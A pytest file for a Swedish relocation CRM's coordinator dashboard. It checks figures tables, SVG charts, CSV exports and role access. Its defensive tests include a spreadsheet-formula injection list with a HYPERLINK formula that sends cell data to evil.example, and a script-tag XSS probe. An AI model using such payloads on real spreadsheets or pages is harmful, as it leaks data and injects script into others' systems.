"""The coordinator's dashboard: the numbers of `tasteget report` as charts, tables and CSV."""

from __future__ import annotations

import csv
import io
import shutil
from datetime import date
from html.parser import HTMLParser

import pytest

from intake.builtsite import content, current
from intake.competence import matches
from intake.figures import charts, competence, counts
from tasteget.occupations import taxonomy

from tests.support.figures_data import h, store
from tests.support.helpers import ROOT, tasteget
from tests.support.intake_helpers import make_staff, register, staff_login


class Tables(HTMLParser):
    """Every table of a page by its caption: a list of rows, each a list of cell texts."""

    def __init__(self, html: str):
        super().__init__()
        self.tables: dict[str, list[list[str]]] = {}
        self._caption = self._rows = self._text = None
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        if tag == "table":
            self._rows = []
        elif tag == "tr":
            self._rows.append([])
        elif tag in ("caption", "th", "td"):
            self._text = ""

    def handle_data(self, data):
        if self._text is not None:
            self._text += data

    def handle_endtag(self, tag):
        if tag == "caption":
            self._caption, self._text = self._text.strip(), None
        elif tag in ("th", "td"):
            self._rows[-1].append(self._text.strip())
            self._text = None
        elif tag == "table":
            self.tables[self._caption] = self._rows


def report_rows(app, *args, content=None):
    env = {"DATABASE_URL": app.config["DATABASE_URL"]} | ({"CONTENT_DIR": str(content)} if content else {})
    result = tasteget("report", "--format", "csv", *args, env=env)
    assert result.returncode == 0, result.stderr
    return list(csv.reader(io.StringIO(result.stdout)))


def csv_rows(response):
    assert response.status_code == 200 and response.mimetype == "text/csv"
    return list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))


@pytest.fixture
def coordinator(app):
    client = app.test_client()
    response = staff_login(client, make_staff(app, "samordnare@region.example", "coordinator"))
    assert response.status_code == 303
    assert client.get(response.headers["Location"]).headers["Location"] == "/crm/figures/"  # lands here
    return client


def test_the_dashboard_shows_the_numbers_of_the_report(app, coordinator):
    store(app)
    page = coordinator.get("/crm/figures/?as_of=2026-12-31")
    assert page.status_code == 200
    tables = Tables(page.get_data(as_text=True)).tables
    assert dict(tables["Nyckeltal"]) == {
        "Registrerade hushåll": "5",
        "Flyttade hushåll": "2",
        "Magasinsbeställningar": "3",
        "Konvertering, registrerade till flyttade": "40\xa0%",
        "Mediantid till första kontakt, dagar": "3,5",
        "Öppna uppföljningar": "1",
    }
    report = report_rows(app, "--as-of", "2026-12-31")
    assert csv_rows(coordinator.get("/crm/figures/export.csv?as_of=2026-12-31")) == report
    value = {(figure, key): int(v) for figure, key, v in report[1:] if key and v != competence.NO_TARGET}

    by_month = tables["Per månad: siffrorna"]
    assert by_month[0] == ["Månad", "Registrerade hushåll", "Flyttade hushåll", "Magasinsbeställningar"]
    assert by_month[1:] == [
        [
            m,
            *(
                str(value.get((f, m), 0))
                for f in ("households registered by month", "households moved by month", "magazine orders by month")
            ),
        ]
        for m in ("2026-01", "2026-02", "2026-03", "2026-04", "2026-05")  # April has orders only; none are left out
    ]

    with app.app_context():
        names = {m.name: slug for slug, m in content.site().municipalities.items()} | {"Vet inte än": "unsure"}
    by_place = {names[name]: (int(a), int(b)) for name, a, b in tables["Per kommun: siffrorna"][1:]}
    assert by_place["are"] == (2, 1) and by_place["unsure"] == (1, 0)  # the quarantined one never counts
    for slug, (interested, moved_here) in by_place.items():
        assert interested == value.get(("households by municipality of interest", slug), 0)
        assert moved_here == value.get(("moves by destination", slug), 0)
    assert sum(i for i, _ in by_place.values()) == 7  # five households, one of them under three municipalities

    by_source = tables["Per kampanjkälla: siffrorna"]
    assert by_source[1:] == [
        ["facebook", "2", "1", "0"],
        ["magasinet", "2", "1", "1"],
        ["Ingen kampanjkälla", "1", "0", "2"],
    ]
    # Where they heard of us (answers named as the form names them, in the form's order) and the
    # country they live in (named in the staff's language, most first): the report's numbers.
    heard = {"Sociala medier": "social", "Vårt magasin": "magazine", "Inget svar": "(no answer)"}
    by_heard = tables["Per var de hörde om oss: siffrorna"]
    assert by_heard == [
        ["Hörde talas om oss via", "Registrerade hushåll", "Flyttade hushåll"],
        ["Vårt magasin", "1", "1"],
        ["Sociala medier", "2", "1"],
        ["Inget svar", "2", "0"],
    ]
    for name, registered, moved in by_heard[1:]:
        assert int(registered) == value[("households registered by where they heard of us", heard[name])]
        assert int(moved) == value.get(("households moved by where they heard of us", heard[name]), 0)
    by_country = tables["Per bosättningsland: siffrorna"]
    assert by_country == [["Land", "Registrerade hushåll"], ["Sverige", "3"], ["Norge", "1"], ["Tyskland", "1"]]
    for name, code in (("Sverige", "SE"), ("Norge", "NO"), ("Tyskland", "DE")):
        assert [name, str(value[("households registered by country of residence", code)])] in by_country
    # What "open follow-ups" counts is said on the page.
    assert "Öppna uppföljningar: hushåll" in page.get_data(as_text=True)

    # Each chart's CSV holds its table.
    for caption, chart in (
        ("Per månad: siffrorna", "month"),
        ("Per kampanjkälla: siffrorna", "source"),
        ("Per var de hörde om oss: siffrorna", "heard"),
        ("Per bosättningsland: siffrorna", "country"),
    ):
        assert csv_rows(coordinator.get(f"/crm/figures/export.csv?chart={chart}&as_of=2026-12-31")) == tables[caption]


def test_figures_as_of_an_earlier_day(app, coordinator):
    store(app)
    tables = Tables(coordinator.get("/crm/figures/?as_of=2026-02-28").get_data(as_text=True)).tables
    key = dict(tables["Nyckeltal"])
    assert (key["Registrerade hushåll"], key["Flyttade hushåll"], key["Magasinsbeställningar"]) == ("4", "0", "2")
    assert csv_rows(coordinator.get("/crm/figures/export.csv?as_of=2026-02-28")) == report_rows(
        app, "--as-of", "2026-02-28"
    )


def test_a_stray_ancient_date_adds_one_month_not_two_thousand_years(app, coordinator):
    """A move typed as year 1 in the back office: the month table lists it, not every month since."""
    ancient = counts.HouseholdRecord(date(2026, 1, 10), ("are",), None, "moved", None, "are", date(1, 1, 1), None)
    store(app, households=[ancient])
    page = coordinator.get("/crm/figures/?as_of=2026-12-31").get_data(as_text=True)
    months = [row[0] for row in Tables(page).tables["Per månad: siffrorna"][1:]]
    assert months[1:] == ["2026-01", "2026-02", "2026-03", "2026-04"] and months[0].endswith("1-01")
    assert len(page) < 100_000


def test_every_chart_is_drawn_with_a_name_and_its_numbers(app, coordinator):
    store(app)
    html = coordinator.get("/crm/figures/?as_of=2026-12-31").get_data(as_text=True)
    assert html.count('role="img"') == 6  # the first year's too (moved households in it)
    assert '<title id="chart-month-title">Per månad</title>' in html
    assert html.count("download>Ladda ner de här siffrorna (CSV)</a>") == 6
    assert "<script" not in html and "http" not in html.split("<body>")[1].replace("http://www.w3.org/2000/svg", "")


def test_an_empty_crm_and_a_bad_day(app, coordinator):
    html = coordinator.get("/crm/figures/").get_data(as_text=True)
    assert html.count("Inget att visa ännu för den här dagen.") == 7
    assert dict(Tables(html).tables["Nyckeltal"])["Registrerade hushåll"] == "0"
    bad = coordinator.get("/crm/figures/?as_of=2026-13-45")
    assert bad.status_code == 422 and 'aria-invalid="true"' in bad.get_data(as_text=True)
    assert coordinator.get("/crm/figures/export.csv?as_of=yesterday").status_code == 400
    assert coordinator.get("/crm/figures/export.csv?chart=nope").status_code == 404


@pytest.mark.parametrize("role", ["guide", "admin"])
def test_only_the_coordinator_sees_the_figures(app, role):
    client = app.test_client()
    assert (
        staff_login(
            client, make_staff(app, f"{role}@staff.example", role, ["are"] if role == "guide" else [])
        ).status_code
        == 303
    )
    for path in (
        "/crm/figures/",
        "/crm/figures/competence/",
        "/crm/figures/export.csv",
        "/crm/figures/export.csv?chart=month",
        "/crm/figures/export.csv?chart=targets",
    ):
        assert client.get(path).status_code == 404
    assert "/crm/figures/" not in client.get("/crm/contacts/").get_data(as_text=True)


def test_chart_labels_are_escaped_and_ids_checked():
    svg = charts.bar_chart("chart-x", "A <b> title", "d", ["<script>alert(1)</script>", "B"], [("n & m", [3, 0])])
    assert "<script>" not in svg and "&lt;script&gt;" in svg and "n &amp; m" not in svg  # one series: no legend
    assert 'role="img"' in svg and 'aria-labelledby="chart-x-title chart-x-desc"' in svg
    with pytest.raises(ValueError):
        charts.bar_chart('x" onload="', "t", "d", ["a"], [("n", [1])])
    with pytest.raises(ValueError):
        charts.bar_chart("x", "t", "d", ["a", "b"], [("n", [1])])


# Campaign sources a spreadsheet would run: stored before the intake checked its campaign parameters,
# or imported from the previous CRM, whose files may hold anything.
FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"x")', "@SUM(1+1)", "+46", "-2+3", "\t=1+1"]


def test_every_figures_csv_neutralises_formulas_and_keeps_numbers_numbers(app, client, coordinator):
    # First contact recorded before the registration (imported dates): a negative median, a real number.
    store(
        app, households=[h("2026-01-10", ["are"], source, "contacted", "2026-01-05") for source in FORMULAS], orders=[]
    )
    register(client, utm_source=FORMULAS[0])  # from a link: not a campaign name, so not kept
    day = "2099-12-31"
    report = report_rows(app, "--as-of", day)
    assert csv_rows(coordinator.get(f"/crm/figures/export.csv?as_of={day}")) == report
    by_source = {key: int(value) for figure, key, value in report if figure == "households registered by source"}
    assert by_source == {**{"'" + source: 1 for source in FORMULAS}, "(none)": 1}
    [median] = [value for figure, _key, value in report if figure == "median days to first contact"]
    assert float(median) == -5  # a number the figures computed stays a number a spreadsheet can add up
    chart = csv_rows(coordinator.get(f"/crm/figures/export.csv?chart=source&as_of={day}"))
    assert sorted(row[0] for row in chart[1:]) == sorted(["Ingen kampanjkälla", *("'" + s for s in FORMULAS)])


@pytest.fixture
def planned(app, tmp_path):
    """The shipped content, with Krokom listing its own need (software developers, 2512: no longer
    nurses, the region's) and Åre its targets for 2026; the intake and the report both read it."""
    folder = tmp_path / "content"
    shutil.copytree(ROOT / "content", folder)
    are = folder / "municipalities" / "are.yml"
    are.write_text(
        are.read_text(encoding="utf-8")
        + "targets:\n  - {year: 2026, households_moved: 30, households_with_needed_skills: 10}\n",
        encoding="utf-8",
    )
    krokom = folder / "municipalities" / "krokom.yml"
    krokom.write_text(
        krokom.read_text(encoding="utf-8").replace("\nwork:\n", '\nwork:\n  in_demand:\n    - ssyk: "2512"\n', 1),
        encoding="utf-8",
    )
    with app.app_context():
        saved = app.extensions["site_content"]
        app.extensions["site_content"] = content._Loaded(current.current(), content.load(folder))
        assert matches.needs_of(content.site()).codes("krokom") == {"2512"}
    yield folder
    app.extensions["site_content"] = saved


def test_the_competence_figures_are_the_reports(app, coordinator, planned):
    store(app)
    html = coordinator.get("/crm/figures/competence/?as_of=2026-12-31").get_data(as_text=True)
    tables = Tables(html).tables
    report = report_rows(app, "--as-of", "2026-12-31", content=planned)
    assert csv_rows(coordinator.get("/crm/figures/export.csv?as_of=2026-12-31")) == report
    value = {(figure, key): v for figure, key, v in report[1:]}

    assert dict(tables["Nyckeltal: efterfrågad kompetens"]) == {
        "Registrerade hushåll med efterfrågad kompetens": "3",  # the quarantined nurse never counts
        "Flyttade hushåll med efterfrågad kompetens": "1",
    }
    assert value["households registered with a needed skill", ""] == "3"
    assert value["households moved with a needed skill", ""] == "1"

    by_group = tables["Med efterfrågad kompetens, per yrkesgrupp: siffrorna"]
    assert by_group[0] == ["Yrkesgrupp", "Registrerade hushåll", "Flyttade hushåll"]
    assert by_group[1:] == [
        [matches.group_label(code, "sv"), *counted]
        for code, counted in (("2221", ("1", "1")), ("2512", ("1", "0")), ("5321", ("1", "0")))
    ]
    for code, registered, moved in (("2221", "1", "1"), ("2512", "1", None), ("5321", "1", None)):
        assert value["households registered with a needed skill by occupation group", code] == registered
        assert value.get(("households moved with a needed skill by occupation group", code)) == moved

    by_field = tables["Med efterfrågad kompetens, per yrkesområde: siffrorna"]
    assert by_field[1:] == [
        [f"2 {taxonomy.load().group('2').name_sv}", "2", "1"],
        [f"5 {taxonomy.load().group('5').name_sv}", "1", "0"],
    ]
    assert value["households registered with a needed skill by field", "2"] == "2"

    # Krokom needs developers only now: the nurse who chose it counts under Åre and Berg, not Krokom.
    by_place = tables["Med efterfrågad kompetens, per kommun: siffrorna"]
    assert sorted(by_place[1:-1]) == [["Berg", "1", "0"], ["Åre", "2", "1"]]
    assert by_place[-1] == ["Vet inte än (regionens behov)", "1", "0"]  # after the municipalities
    assert value["households registered with a needed skill by municipality", "unsure"] == "1"
    assert ("households registered with a needed skill by municipality", "krokom") not in value

    targets = tables["Mål för 2026 mot utfall: siffrorna"]
    assert targets[0] == [
        "Kommun",
        "Mål: flyttade hushåll",
        "Flyttade hushåll",
        "Mål: med efterfrågad kompetens",
        "Flyttade med efterfrågad kompetens",
    ]
    rows = {row[0]: row[1:] for row in targets[1:]}
    assert rows["Åre"] == ["30", "1", "10", "1"]
    assert rows["Östersund"] == ["Inget mål satt", "1", "Inget mål satt", "0"]  # moved, no skill it needs
    assert rows["Berg"] == ["Inget mål satt", "0", "Inget mål satt", "0"]
    assert len(rows) == 8
    assert value["target households moved in 2026", "are"] == "30"
    assert value["target households moved in 2026", "ostersund"] == "no target set"
    assert value["households moved in 2026 with a needed skill", "are"] == "1"

    # Each table's CSV holds its table.
    for key, caption in (
        ("skills-group", "Med efterfrågad kompetens, per yrkesgrupp: siffrorna"),
        ("targets", "Mål för 2026 mot utfall: siffrorna"),
    ):
        assert csv_rows(coordinator.get(f"/crm/figures/export.csv?chart={key}&as_of=2026-12-31")) == tables[caption]


def test_the_competence_figures_as_of_an_earlier_day_and_year(app, coordinator, planned):
    store(app)
    tables = Tables(coordinator.get("/crm/figures/competence/?as_of=2026-02-28").get_data(as_text=True)).tables
    assert list(dict(tables["Nyckeltal: efterfrågad kompetens"]).values()) == ["3", "0"]
    assert "Med efterfrågad kompetens, per yrkesgrupp: siffrorna" in tables
    rows = {row[0]: row[1:] for row in tables["Mål för 2026 mot utfall: siffrorna"][1:]}
    assert rows["Åre"] == ["30", "0", "10", "0"]
    assert csv_rows(coordinator.get("/crm/figures/export.csv?as_of=2026-02-28")) == report_rows(
        app, "--as-of", "2026-02-28", content=planned
    )
    # The next year: its own (unset) targets, and the moves of that year only.
    rows = {
        row[0]: row[1:]
        for row in Tables(coordinator.get("/crm/figures/competence/?as_of=2027-03-01").get_data(as_text=True)).tables[
            "Mål för 2027 mot utfall: siffrorna"
        ][1:]
    }
    assert rows["Åre"] == ["Inget mål satt", "0", "Inget mål satt", "0"]


def test_the_competence_figures_name_groups_in_the_staff_language(app, coordinator):
    store(app)
    app.config["STAFF_LANGUAGE"] = "en"
    tables = Tables(coordinator.get("/crm/figures/competence/?as_of=2026-12-31").get_data(as_text=True)).tables
    by_group = tables["With a needed skill, by occupation group: the numbers"]
    assert [row[0] for row in by_group[1:]] == [matches.group_label(c, "en") for c in ("2221", "2512", "5321")]
    assert by_group[1][0] != matches.group_label("2221", "sv")
    by_place = tables["With a needed skill, by municipality: the numbers"]
    assert ["Krokom", "1", "0"] in by_place  # the shipped content: every municipality stands on the region's needs
    assert "No target set" in tables["Targets for 2026 against what happened: the numbers"][1]


def test_no_household_with_a_needed_skill_yet(app, coordinator):
    store(app, households=[h("2026-01-10", ["are"], ssyk="1111")], orders=[])
    html = coordinator.get("/crm/figures/competence/?as_of=2026-12-31").get_data(as_text=True)
    assert html.count("Inget hushåll med efterfrågad kompetens än.") == 3
    tables = Tables(html).tables
    assert list(dict(tables["Nyckeltal: efterfrågad kompetens"]).values()) == ["0", "0"]
    assert {row[1] for row in tables["Mål för 2026 mot utfall: siffrorna"][1:]} == {"Inget mål satt"}


def test_the_two_figures_pages_link_each_other_on_the_same_day(app, coordinator):
    html = coordinator.get("/crm/figures/?as_of=2026-02-28").get_data(as_text=True)
    assert '<a href="/crm/figures/competence/?as_of=2026-02-28">Kompetensattraktion</a>' in html
    assert "Nyckeltal: efterfrågad kompetens" not in html  # counted on its own page only
    html = coordinator.get("/crm/figures/competence/?as_of=2026-02-28").get_data(as_text=True)
    assert '<a href="/crm/figures/?as_of=2026-02-28">Kampanjen</a>' in html
    assert 'aria-current="page">Kompetensattraktion</a>' in html
    assert "<h1>Kompetensattraktion</h1>" in html
    bad = coordinator.get("/crm/figures/competence/?as_of=2026-13-45")
    assert bad.status_code == 422 and 'aria-invalid="true"' in bad.get_data(as_text=True)
    assert '<a href="/crm/figures/competence/" aria-current="page">' in bad.get_data(as_text=True)  # no day kept
    assert coordinator.get("/crm/figures/export.csv?chart=targets&as_of=yesterday").status_code == 400
